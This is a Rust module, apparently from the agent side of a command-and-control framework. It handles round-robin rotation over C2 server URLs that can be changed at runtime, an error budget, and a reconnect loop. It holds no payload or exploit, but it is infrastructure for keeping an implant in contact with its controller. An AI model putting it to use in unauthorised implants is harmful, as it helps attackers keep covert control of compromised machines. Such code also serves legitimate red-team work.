//! Reconnection controller: connection attempts, error budget, rotation

use crate::config::RuntimeSettings;
use crate::context::AgentContext;
use crate::error::{AgentError, TransportError};
use crate::transport::Dial;
use backhaul_proto::message::TransportInfo;
use std::future::Future;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use tokio::sync::{oneshot, watch, Mutex};
use tracing::{debug, info, warn};
use url::Url;

/// How one driven connection ended
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// The transport went away; try again
    Disconnected,
    /// The far end asked for a clean shutdown
    Terminated,
}

/// Why the controller stopped producing attempts
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Exit {
    /// Clean shutdown requested by the far end
    Terminated,
    /// Local abort signal
    Aborted,
}

#[derive(Debug)]
struct Rotation {
    transports: Vec<(u64, String)>,
    cursor: usize,
    next_id: u64,
    active: Option<u64>,
}

/// Round-robin over the C2 servers, shared with the transport handlers so
/// the server can change the set at runtime.
#[derive(Debug)]
pub struct C2Rotation {
    state: Mutex<Rotation>,
    switches: watch::Sender<u64>,
}

impl C2Rotation {
    /// Rotate over `servers` starting with the first
    pub fn new(servers: Vec<String>) -> Self {
        let transports: Vec<(u64, String)> = servers
            .into_iter()
            .enumerate()
            .map(|(i, url)| (i as u64 + 1, url))
            .collect();
        let (switches, _) = watch::channel(0);
        Self {
            state: Mutex::new(Rotation {
                next_id: transports.len() as u64 + 1,
                transports,
                cursor: 0,
                active: None,
            }),
            switches,
        }
    }

    /// Next server, or `None` when none are configured
    pub async fn next_server(&self) -> Option<String> {
        let mut state = self.state.lock().await;
        if state.transports.is_empty() {
            return None;
        }
        let index = state.cursor % state.transports.len();
        state.cursor = index + 1;
        let (id, url) = state.transports[index].clone();
        state.active = Some(id);
        Some(url)
    }

    /// Transports in rotation order
    pub async fn list(&self) -> Vec<TransportInfo> {
        let state = self.state.lock().await;
        state
            .transports
            .iter()
            .map(|(id, url)| TransportInfo {
                id: *id,
                url: url.clone(),
                active: state.active == Some(*id),
            })
            .collect()
    }

    /// Append a transport to the rotation
    pub async fn add(&self, url: &str) -> Result<TransportInfo, TransportError> {
        Url::parse(url).map_err(|_| TransportError::InvalidUrl(url.to_string()))?;
        let mut state = self.state.lock().await;
        let id = state.next_id;
        state.next_id += 1;
        state.transports.push((id, url.to_string()));
        info!("Added transport {} ({})", id, url);
        Ok(TransportInfo {
            id,
            url: url.to_string(),
            active: false,
        })
    }

    /// Remove a transport. The transport in use cannot be removed.
    pub async fn remove(&self, id: u64) -> Result<TransportInfo, TransportError> {
        let mut state = self.state.lock().await;
        if state.active == Some(id) {
            return Err(TransportError::Active(id));
        }
        let index = state
            .transports
            .iter()
            .position(|(t, _)| *t == id)
            .ok_or(TransportError::NotFound(id))?;
        let (_, url) = state.transports.remove(index);
        if index < state.cursor {
            state.cursor -= 1;
        }
        info!("Removed transport {} ({})", id, url);
        Ok(TransportInfo { id, url, active: false })
    }

    /// Make `id` the next transport and ask the running engine to reconnect
    pub async fn switch(&self, id: u64) -> Result<TransportInfo, TransportError> {
        let mut state = self.state.lock().await;
        let index = state
            .transports
            .iter()
            .position(|(t, _)| *t == id)
            .ok_or(TransportError::NotFound(id))?;
        state.cursor = index;
        let url = state.transports[index].1.clone();
        drop(state);

        self.switches.send_modify(|generation| *generation += 1);
        info!("Switching to transport {} ({})", id, url);
        Ok(TransportInfo { id, url, active: false })
    }

    /// Receiver that changes on every switch request
    pub fn subscribe(&self) -> watch::Receiver<u64> {
        self.switches.subscribe()
    }
}

/// Consecutive connection error counter
#[derive(Debug)]
pub struct ErrorBudget {
    failures: AtomicU32,
    max: u32,
}

impl ErrorBudget {
    /// Budget tolerating `max` consecutive failures
    pub fn new(max: u32) -> Self {
        Self {
            failures: AtomicU32::new(0),
            max,
        }
    }

    /// Record a failure, returning the new consecutive count
    pub fn record(&self) -> u32 {
        self.failures.fetch_add(1, Ordering::SeqCst).saturating_add(1)
    }

    /// A full cycle succeeded
    pub fn reset(&self) {
        self.failures.store(0, Ordering::SeqCst);
    }

    /// Current consecutive count
    pub fn failures(&self) -> u32 {
        self.failures.load(Ordering::SeqCst)
    }

    /// Configured maximum
    pub fn max(&self) -> u32 {
        self.max
    }
}

/// Produces connection attempts until terminated, aborted or out of budget
pub struct Reconnector {
    rotation: Arc<C2Rotation>,
    budget: Arc<ErrorBudget>,
    settings: Arc<RuntimeSettings>,
    abort: Option<oneshot::Receiver<()>>,
    attempts: u32,
}

impl Reconnector {
    /// Create a controller over a private rotation of `servers`
    pub fn new(servers: Vec<String>, max_errors: u32, settings: Arc<RuntimeSettings>) -> Self {
        Self::with_rotation(Arc::new(C2Rotation::new(servers)), max_errors, settings)
    }

    /// Create a controller over the context's shared rotation
    pub fn for_context(ctx: &AgentContext) -> Self {
        Self::with_rotation(
            Arc::clone(&ctx.transports),
            ctx.config.max_connection_errors,
            Arc::clone(&ctx.settings),
        )
    }

    /// Create a controller over `rotation`
    pub fn with_rotation(rotation: Arc<C2Rotation>, max_errors: u32, settings: Arc<RuntimeSettings>) -> Self {
        Self {
            rotation,
            budget: Arc::new(ErrorBudget::new(max_errors)),
            settings,
            abort: None,
            attempts: 0,
        }
    }

    /// Stop at the top of the next iteration once `abort` fires
    pub fn with_abort(mut self, abort: oneshot::Receiver<()>) -> Self {
        self.abort = Some(abort);
        self
    }

    /// Shared error budget, for engines that reset it per cycle
    pub fn budget(&self) -> Arc<ErrorBudget> {
        Arc::clone(&self.budget)
    }

    /// Attempts made so far
    pub fn attempts(&self) -> u32 {
        self.attempts
    }

    fn aborted(&mut self) -> bool {
        let Some(abort) = self.abort.as_mut() else {
            return false;
        };
        match abort.try_recv() {
            Ok(()) => true,
            Err(oneshot::error::TryRecvError::Empty) => false,
            Err(oneshot::error::TryRecvError::Closed) => {
                self.abort = None;
                false
            }
        }
    }

    fn fail(&self, error: AgentError) -> Result<(), AgentError> {
        let failures = self.budget.record();
        let max = self.budget.max();
        warn!("Connection error {}/{}: {}", failures, max, error);
        if failures > max {
            return Err(AgentError::MaxErrorsExceeded { failures, max });
        }
        Ok(())
    }

    /// Dial servers in rotation and hand each connection to `drive`
    pub async fn run<D, F, Fut>(&mut self, dialer: &D, mut drive: F) -> Result<Exit, AgentError>
    where
        D: Dial + ?Sized,
        F: FnMut(D::Output) -> Fut,
        Fut: Future<Output = Result<Outcome, AgentError>>,
    {
        loop {
            if self.aborted() {
                info!("Abort requested, no further connection attempts");
                return Ok(Exit::Aborted);
            }

            let Some(server) = self.rotation.next_server().await else {
                return Err(AgentError::Config("no C2 servers configured".to_string()));
            };
            self.attempts += 1;
            debug!("Connection attempt {} to {}", self.attempts, server);

            match Url::parse(&server) {
                Err(e) => debug!("Skipping unparsable C2 URL {}: {}", server, e),
                Ok(url) => match dialer.dial(&url).await {
                    Ok(None) => debug!("No transport for {}", server),
                    Ok(Some(connection)) => match drive(connection).await {
                        Ok(Outcome::Terminated) => {
                            info!("Terminated by {}", server);
                            return Ok(Exit::Terminated);
                        }
                        Ok(Outcome::Disconnected) => {
                            info!("Disconnected from {}", server);
                            self.budget.reset();
                        }
                        Err(e) => self.fail(e)?,
                    },
                    Err(e) => self.fail(e)?,
                },
            }

            let interval = self.settings.reconnect_interval();
            debug!("Reconnecting in {:?}", interval);
            tokio::time::sleep(interval).await;
        }
    }
}
